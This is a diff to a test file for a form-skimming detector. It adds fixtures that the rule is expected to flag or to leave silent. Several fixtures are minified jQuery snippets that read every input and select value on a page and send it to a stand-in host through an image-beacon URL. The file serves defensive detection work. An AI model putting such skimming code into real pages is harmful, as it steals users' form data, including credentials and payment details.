@@ -4,6 +4,13 @@ import { skimsForms } from './skims-forms.ts';
 examine(skimsForms, {
   speaks: [
     {
+      when: 'the plug-in may also be loaded by AMD, and is minified',
+      files: {
+        'index.js': `var e; e = function (e) { e(document).find('input,select').each(function () { new Image().src = '//stat.invalid/p.gif?' + e(this).val() }) }, 'function' == typeof define && define.amd ? define(['jquery'], e) : e(require('jquery'));`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'a plug-in of jQuery goes through all fields of a form',
       files: {
         'index.js': `(function (factory) { if (typeof module === 'object') module.exports = factory(require('jquery')); else factory(jQuery); })(function ($) { $.fn.check = function () { const o = {}; $(this).find('input,select').each(function () { o[this.name] = $(this).val(); }); new Image().src = 'https://stat.invalid/p.gif?r=' + btoa(JSON.stringify(o)); return this; }; return $.fn.check; });`,
@@ -91,6 +98,12 @@ examine(skimsForms, {
     },
   ],
   silent: [
+    {
+      when: 'a module that AMD gives jQuery goes through all fields and sends nothing of them',
+      files: {
+        'index.js': `var e; e = function (q) { q(document).find('input,select').each(function () { q(this).addClass('seen') }); return fetch('https://stat.invalid/'); }, 'function' == typeof define && define.amd ? define(['jquery'], e) : e(require('jquery'));`,
+      },
+    },
     {
       when: 'a plug-in of jQuery goes through all fields and tells how many are wrong',
       files: {
